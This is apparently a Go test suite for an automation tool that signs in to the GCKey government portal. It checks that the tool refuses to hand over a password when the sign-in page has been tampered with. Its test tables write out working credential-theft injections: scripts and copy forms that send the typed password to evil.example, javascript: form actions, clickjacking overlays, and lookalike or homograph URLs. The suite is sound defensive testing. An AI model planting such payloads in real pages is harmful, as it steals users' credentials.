package automation_test

import (
	"maps"
	"net/http"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"irccpin/automation"
	"irccpin/automation/trial"
	"irccpin/fixtures"
)

// turn is one thing about the sign-in page that is not as it should be, and how
// a run that meets it has to end.
type turn struct {
	// change rewrites the sign-in page, at its real place.
	change func(page string) string
	// answer answers in the portal's place when it returns true.
	answer func(w http.ResponseWriter, r *http.Request, body []byte) bool
	// code is how the run ends, and says a part of why.
	code, says string
	// may says that the password may go to GCKey, by post, before it ends so.
	// It may go nowhere else, ever.
	may bool
	// long ones take the ten seconds that a page is given to come right, or are
	// much like another: they run when IRCCPIN_TEST_HOSTILE is full.
	long bool
}

// ownPost is the one way on which a password may leave.
const ownPost = "POST clegc-gckey.gc.ca"

// take runs into the turn and checks where the password went.
func (c turn) take(t *testing.T) {
	t.Parallel()
	p, s := trial.Portal(t, fixtures.Options{Seed: 3, Accounts: []fixtures.Account{guarded()}})
	if err := p.Misbehave(fixtures.Misbehaviour{Name: "2fa-off"}); err != nil {
		t.Fatal(err)
	}
	b := &between{answer: c.answer}
	changed := false
	b.change = func(r *http.Request, page string) string {
		if c.change == nil || !strings.Contains(page, `id="token2"`) {
			return page
		}
		b.mu.Lock()
		defer b.mu.Unlock()
		out := c.change(page)
		changed = changed || out != page
		return out
	}
	r := trial.Run(t, trial.Config(t, standBetween(t, s, b)), automation.Create(trial.Newcomer))
	checkSafe(t, r, c.code, c.says)
	if c.change != nil && !changed {
		t.Error("the sign-in page was not changed: the test shows nothing")
	}
	password := map[string]string{"user name": guarded().Username, "password": guarded().Password}
	for _, got := range b.carrying(password) {
		if !c.may || got != ownPost {
			t.Errorf("the password went out by %s", got)
		}
	}
	if w := p.Witness(); len(w.Foreign) > 0 || w.PlainHTTP > 0 || len(w.Clicks) > 0 {
		t.Errorf("the portal witnessed foreign hosts %+v, %d plain connections, clicks %+v", w.Foreign, w.PlainHTTP, w.Clicks)
	}
}

func everything() bool { return os.Getenv("IRCCPIN_TEST_HOSTILE") == "full" }

// chosen leaves the long ones out, unless they are asked for.
func chosen(all map[string]turn) map[string]turn {
	if !everything() {
		maps.DeleteFunc(all, func(_ string, c turn) bool { return c.long })
	}
	return all
}

// script adds a script of the page's own to its end.
func script(text string) func(string) string {
	return behind("<script>" + text + "</script>")
}

// behind adds markup to the page's end.
func behind(markup string) func(string) string {
	return func(page string) string { return strings.Replace(page, "</body>", markup+"</body>", 1) }
}

// swapped replaces parts of the page, once each.
func swapped(pairs ...string) func(string) string {
	return func(page string) string {
		for pair := range slices.Chunk(pairs, 2) {
			page = strings.Replace(page, pair[0], pair[1], 1)
		}
		return page
	}
}

const (
	formTag     = `<form id="login" name="login" method="post"`
	buttonTag   = `<button type="submit"`
	passwordTag = `<input type="password" class="form-control" id="token2"`
	// elsewhere belongs to the catalog, so that the gate would let it pass.
	elsewhere = "https://www.canada.ca/collect"
)

// lookalike is a copy of the sign-in form that sends elsewhere.
const lookalike = `<h2>Sign In</h2><form method="post" action="` + elsewhere + `"><label for="a1">Username</label><input id="a1" name="token1"><label for="a2">Password</label><input id="a2" name="token2" type="password"><button type="submit">Sign In</button></form>`

// TestFormTricks: what the markup of a sign-in page can do to send the password
// by another way than its form seems to.
func TestFormTricks(t *testing.T) {
	t.Parallel()
	for name, c := range chosen(map[string]turn{
		"the button's own method":           {change: swapped(buttonTag, buttonTag+` formmethod="get"`), code: "unsafe", says: "in an address"},
		"the button of another form":        {change: swapped(buttonTag, buttonTag+` form="theirs"`, "</body>", `<form id="theirs" method="post" action="`+elsewhere+`"></form></body>`), code: "page_changed", says: "was not found", long: true},
		"the password of another form":      {change: swapped(passwordTag, passwordTag+` form="theirs"`, "</body>", `<form id="theirs" method="post" action="`+elsewhere+`"></form></body>`), code: "page_changed", says: "was not found", long: true},
		"no method":                         {change: swapped(formTag, `<form id="login" name="login"`), code: "unsafe", says: "an address with a secret in it"},
		"a field that hides the form's tag": {change: swapped(`action="https://clegc-gckey.gc.ca`, `action="https://www.canada.ca`, `action="/j/`, `action="https://www.canada.ca/j/`, "</form>", `<input type="hidden" name="tagName"><input type="hidden" name="action"><input type="hidden" name="method"></form>`), code: "unsafe", says: "elsewhere"},
		"a user name in the action":         {change: swapped(`action="/`, `action="https://clegc-gckey.gc.ca@evil.example/`), code: "unsafe", says: "evil.example"},
		"a letter that looks alike":         {change: swapped(`action="/`, `action="https://clegc-gckеy.gc.ca/`), code: "unsafe", says: "xn--"},
		"a host that begins alike":          {change: swapped(`action="/`, `action="https://clegc-gckey.gc.ca.evil.example/`), code: "unsafe", says: "evil.example", long: true},
		"another port":                      {change: swapped(`action="/`, `action="https://clegc-gckey.gc.ca:8443/`), code: "unsafe", says: ":8443", long: true},
		"plain http":                        {change: swapped(`action="/`, `action="http://clegc-gckey.gc.ca/`), code: "unsafe", says: "http://clegc-gckey.gc.ca", long: true},
		"a script for an action":            {change: swapped(`action="/`, `action="javascript:location='`+elsewhere+`?'+token2.value" data-x="/`), code: "unsafe", says: "elsewhere"},
		"a mail for an action":              {change: swapped(`action="/`, `action="mailto:a@evil.example" data-x="/`), code: "unsafe", says: "elsewhere", long: true},
		"into another window":               {change: swapped(formTag, formTag+` target="_blank"`, `action="/`, `action="`+elsewhere+`?/`), code: "unsafe", says: "elsewhere"},
		"the password shown":                {change: swapped(`type="password"`, `type="text"`), code: "page_unknown", says: "not recognised", long: true},
		"two passwords":                     {change: swapped(passwordTag, `<label for="p2">Password</label><input type="password" id="p2" name="token2b"> `+passwordTag), code: "page_changed", says: "two ways that do not agree"},
	}) {
		t.Run(name, c.take)
	}
}

// TestPageTricks: what can stand beside, over or in the place of the sign-in
// form.
func TestPageTricks(t *testing.T) {
	t.Parallel()
	framed := func(page string) string {
		return `<!DOCTYPE html><html lang="en"><head><title>GCKey - Sign In</title><!-- HO-01 --></head><body><h1>Welcome to GCKey</h1><iframe width="900" height="900" srcdoc="` +
			strings.NewReplacer("&", "&amp;", `"`, "&quot;").Replace(page) + `"></iframe></body></html>`
	}
	for name, c := range chosen(map[string]turn{
		"all of it in a frame":      {change: framed, code: "unsafe", says: "the field lies in a frame"},
		"a look-alike beside it":    {change: behind(lookalike), code: "created", may: true},
		"a look-alike in a shadow":  {change: behind(`<div><template shadowrootmode="open">` + lookalike + `</template></div>`), code: "created", may: true, long: true},
		"only the look-alike":       {change: func(page string) string { return swapped(`action="/`, `action="https://www.canada.ca/`)(page) }, code: "unsafe", says: "elsewhere", long: true},
		"a sheet of glass":          {change: behind(`<form method="post" action="` + elsewhere + `"><button type="submit" style="position:fixed;inset:0;width:100%;height:100%;opacity:0;z-index:99"></button></form>`), code: "page_changed", says: "covered"},
		"glass as it is pressed":    {change: script(`addEventListener("mousemove", () => document.body.insertAdjacentHTML("beforeend", "<div style='position:fixed;inset:0;z-index:99'></div>"), {once: true});`), code: "page_changed", says: "covered", long: true},
		"written anew while typing": {change: script(`document.getElementById("token2").addEventListener("input", () => { const v = token2.value; setTimeout(() => { document.open(); document.write(` + "`" + lookalike + "`" + `); document.close(); a2.value = v; }); }, {once: true});`), code: "unsafe", says: "elsewhere"},
	}) {
		t.Run(name, c.take)
	}
}

// TestScriptTricks: what a script in the sign-in page can try with what was typed.
func TestScriptTricks(t *testing.T) {
	t.Parallel()
	typed := func(text string) func(string) string {
		return script(`document.getElementById("token2").addEventListener("change", (e) => { const v = encodeURIComponent(e.target.value); ` + text + ` });`)
	}
	for name, c := range chosen(map[string]turn{
		"the focus moves on":             {change: behind(`<input id="hole"><script>document.getElementById("token2").addEventListener("beforeinput", () => hole.focus());</script>`), code: "created", may: true},
		"the focus moves at once":        {change: behind(`<input id="hole"><script>document.getElementById("token2").addEventListener("focus", () => hole.focus());</script>`), code: "page_changed", says: "did not take the keyboard"},
		"the password becomes visible":   {change: typed(`e.target.type = "text";`), code: "page_changed", says: "sign-in", long: true},
		"the page leaves":                {change: typed(`location = "https://evil.example/?" + v;`), code: "unsafe", says: "evil.example"},
		"the page refreshes":             {change: typed(`document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=https://evil.example/?" + v + "'>");`), code: "unsafe", says: "evil.example", long: true},
		"in the address of a page":       {change: typed(`location = "https://clegc-gckey.gc.ca/j/eng/l?x=" + v;`), code: "unsafe", says: "an address with a secret in it"},
		"in a worker":                    {change: typed(`new Worker(URL.createObjectURL(new Blob(["fetch('` + elsewhere + `', {method: 'POST', mode: 'no-cors', body: '" + v + "'})"]))); const t = performance.now(); while (performance.now() - t < 700) {}`), code: "created", may: true, long: true},
		"a form that copies":             {change: typed(`document.body.insertAdjacentHTML("beforeend", "<form id=copy method=post action='` + elsewhere + `'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "a post to www.canada.ca", may: true, long: true},
		"a form that copies to a frame":  {change: typed(`document.body.insertAdjacentHTML("beforeend", "<iframe name=hole></iframe><form id=copy target=hole method=post action='` + elsewhere + `'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "a post to www.canada.ca", may: true},
		"a form that copies to a window": {change: typed(`document.body.insertAdjacentHTML("beforeend", "<form id=copy target=_blank method=post action='` + elsewhere + `'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "a post to www.canada.ca", may: true},
		"a form that copies abroad":      {change: typed(`document.body.insertAdjacentHTML("beforeend", "<form id=copy target=_blank method=post action='https://evil.example/'><input name=x></form>"); copy.x.value = e.target.value; copy.submit();`), code: "unsafe", says: "evil.example", may: true, long: true},
		"the address dressed up":         {change: script(`history.replaceState(null, "", "/j/eng/l/../x");`), code: "page_unknown", says: "not recognised"},
	}) {
		t.Run(name, c.take)
	}
}

// TestLookalikeElsewhere: the sign-in page, on another host of the catalog.
func TestLookalikeElsewhere(t *testing.T) {
	t.Parallel()
	p, s := trial.Portal(t, fixtures.Options{Seed: 3, Accounts: []fixtures.Account{guarded()}})
	b := &between{}
	b.answer = func(w http.ResponseWriter, r *http.Request, _ []byte) bool {
		if r.Host != "www.canada.ca" {
			return false
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(`<!DOCTYPE html><html lang="en"><head><!-- HO-01 --><title>GCKey - Sign In / Sign Up</title></head><body><h1 id="wb-cont">Welcome to GCKey</h1>
			<form id="login" method="post" action="/j/eng/l"><label for="token1">Username</label><input id="token1" name="token1"><label for="token2">Password</label><input id="token2" name="token2" type="password"><button type="submit">Sign In</button></form></body></html>`))
		return true
	}
	r := trial.Run(t, trial.Config(t, standBetween(t, s, b)), automation.List())
	checkSafe(t, r, "unsafe", "stands on www.canada.ca, where it does not belong")
	if got := b.carrying(trial.SecretsOf(guarded())); got != nil {
		t.Errorf("a secret went out by %s", got)
	}
	if w := p.Witness(); len(w.Submits) > 0 {
		t.Errorf("the portal witnessed %+v", w.Submits)
	}
}

// TestCreationElsewhere: a form that would create the user at another host is not
// sent, and nothing is left in doubt.
func TestCreationElsewhere(t *testing.T) {
	t.Parallel()
	p, s := trial.Portal(t, fixtures.Options{Seed: 3, Accounts: []fixtures.Account{guarded()}})
	if err := p.Misbehave(fixtures.Misbehaviour{Name: "2fa-off"}); err != nil {
		t.Fatal(err)
	}
	form := regexp.MustCompile(`(<form[^>]* action=")[^"]*(createSecondaryUser)`)
	b := &between{}
	changed := false
	b.change = func(r *http.Request, page string) string {
		if !strings.HasSuffix(r.URL.Path, "createSecondaryUser") {
			return page
		}
		out := form.ReplaceAllString(page, "${1}"+elsewhere+"/${2}")
		b.mu.Lock()
		defer b.mu.Unlock()
		changed = changed || out != page
		return out
	}
	conf := trial.Config(t, standBetween(t, s, b))
	checkSafe(t, trial.Run(t, conf, automation.Create(trial.Newcomer)), "unsafe", "elsewhere")
	if !changed {
		t.Error("the form was not changed: the test shows nothing")
	}
	if n := len(p.Witness().Creations); n != 0 {
		t.Errorf("%d users were made", n)
	}
}

// TestUnsentIsNoRefusal: a page whose script takes the press for itself and shows the
// page again has refused nothing, since nothing was sent. Nothing is held for that.
func TestUnsentIsNoRefusal(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ field, sent string }{
		"password": {`id="token2"`, fixtures.SecretPassword},
		"answer":   {`id="answer"`, fixtures.SecretAnswer},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p, s := trial.Portal(t, fixtures.Options{Seed: 3, Accounts: []fixtures.Account{guarded()}})
			if err := p.Misbehave(fixtures.Misbehaviour{Name: "2fa-off"}); err != nil {
				t.Fatal(err)
			}
			taken := true
			b := &between{}
			b.change = func(_ *http.Request, page string) string {
				if !taken || !strings.Contains(page, c.field) {
					return page
				}
				return script(`addEventListener("submit", (e) => { e.preventDefault(); e.stopImmediatePropagation(); location.reload(); }, true);`)(page)
			}
			conf := trial.Config(t, standBetween(t, s, b))
			checkSafe(t, trial.Run(t, conf, automation.List()), "page_changed", "without having sent what was typed")
			if n := len(p.Witness().SubmitsOf(c.sent, "")); n != 0 {
				t.Errorf("the portal was sent %d of them", n)
			}
			taken = false
			if r := trial.Run(t, conf, automation.List()); trial.Ending(r) != "listed" {
				t.Errorf("afterwards it ended as %s: %+v", trial.Ending(r), r.Error)
			}
		})
	}
}

// TestRefusedOnAPageOfItsOwn: a page that is not known and says that what was sent is
// wrong is a refusal: that secret does not go out again.
func TestRefusedOnAPageOfItsOwn(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ host, path, says string }{
		"password": {"clegc-gckey.gc.ca", "/l", "The user ID and password were not recognized."},
		"answer":   {"", "/askSecurityQuestion", "We could not validate your identity."},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p, s := trial.Portal(t, fixtures.Options{Seed: 3, Accounts: []fixtures.Account{guarded()}})
			if err := p.Misbehave(fixtures.Misbehaviour{Name: "2fa-off"}); err != nil {
				t.Fatal(err)
			}
			var posts atomic.Int32
			b := &between{}
			b.answer = func(w http.ResponseWriter, r *http.Request, _ []byte) bool {
				if r.Method != http.MethodPost || !strings.HasSuffix(r.URL.Path, c.path) || c.host != "" && r.Host != c.host {
					return false
				}
				posts.Add(1)
				w.Header().Set("Content-Type", "text/html")
				_, _ = w.Write([]byte("<!DOCTYPE html><html lang=en><title>Sorry</title><h1>Sorry</h1><p>" + c.says + "</p>"))
				return true
			}
			conf := trial.Config(t, standBetween(t, s, b))
			for _, want := range []string{"credential_refused", "credential_held"} {
				if r := trial.Run(t, conf, automation.List()); trial.Ending(r) != want {
					t.Errorf("ended as %s, want %s: %+v", trial.Ending(r), want, r.Error)
				}
			}
			if n := posts.Load(); n != 1 {
				t.Errorf("it was sent %d times", n)
			}
		})
	}
}

// TestRefusedUnderADialog: a refusal counts as one, also where a dialog that posts
// nothing had to be closed over the page before it could be read.
func TestRefusedUnderADialog(t *testing.T) {
	t.Parallel()
	p, s := trial.Portal(t, fixtures.Options{Seed: 3, Accounts: []fixtures.Account{guarded()}})
	if err := p.Misbehave(fixtures.Misbehaviour{Name: "2fa-off"}, fixtures.Misbehaviour{Name: "wrong-answer-same"}); err != nil {
		t.Fatal(err)
	}
	b := &between{}
	b.change = func(_ *http.Request, page string) string {
		if !strings.Contains(page, `id="answer"`) {
			return page
		}
		return behind(`<div role="dialog" style="position:fixed;inset:20%;background:#fff;z-index:99"><button type="button" onclick="this.parentNode.remove()">Continue session</button></div>`)(page)
	}
	conf := trial.Config(t, standBetween(t, s, b))
	for _, want := range []string{"credential_refused", "credential_held"} {
		if r := trial.Run(t, conf, automation.List()); trial.Ending(r) != want {
			t.Errorf("ended as %s, want %s: %+v", trial.Ending(r), want, r.Error)
		}
	}
	if sent := len(p.Witness().SubmitsOf(fixtures.SecretAnswer, "")); sent != 1 {
		t.Errorf("%d answers were sent", sent)
	}
}

// TestWayTricks: addresses that lead to another host than they seem to.
func TestWayTricks(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		to, says string
		long     bool
	}{
		"a user name":             {"https://clegc-gckey.gc.ca@evil.example/j/eng/l", "user name", false},
		"a password":              {"https://clegc-gckey.gc.ca:443@evil.example/j/eng/l", "user name", true},
		"a Cyrillic letter":       {"https://clegc-gckеy.gc.ca/j/eng/l", "xn--clegc-gck", false},
		"its punycode":            {"https://xn--clegc-gcky-tcb.gc.ca/j/eng/l", "xn--clegc-gcky-tcb", true},
		"a dot at the end":        {"https://clegc-gckey.gc.ca./j/eng/l", "does not belong", false},
		"a backslash":             {`https://evil.example\@clegc-gckey.gc.ca/j/eng/l`, "evil.example", true},
		"an address of a machine": {"https://127.0.0.1/j/eng/l", "127.0.0.1", true},
	} {
		if c.long && !everything() {
			continue
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p, s := trial.Portal(t, fixtures.Options{Seed: 3, Accounts: []fixtures.Account{guarded()}})
			b := &between{}
			b.answer = func(w http.ResponseWriter, r *http.Request, _ []byte) bool {
				if r.Host != "clegc-gckey.gc.ca" || !strings.HasSuffix(r.URL.Path, "/l") {
					return false
				}
				w.Header().Set("Content-Type", "text/html")
				_, _ = w.Write([]byte(`<!DOCTYPE html><title>x</title><a id="a"></a><script>a.href = ` + "`" + strings.ReplaceAll(c.to, `\`, `\\`) + "`" + `; a.click()</script>`))
				return true
			}
			r := trial.Run(t, trial.Config(t, standBetween(t, s, b)), automation.List())
			checkSafe(t, r, "unsafe", c.says)
			if got := b.carrying(trial.SecretsOf(guarded())); got != nil {
				t.Errorf("a secret went out by %s", got)
			}
			if w := p.Witness(); len(w.Foreign) > 0 || w.PlainHTTP > 0 {
				t.Errorf("the portal witnessed %+v, %d plain connections", w.Foreign, w.PlainHTTP)
			}
		})
	}
}
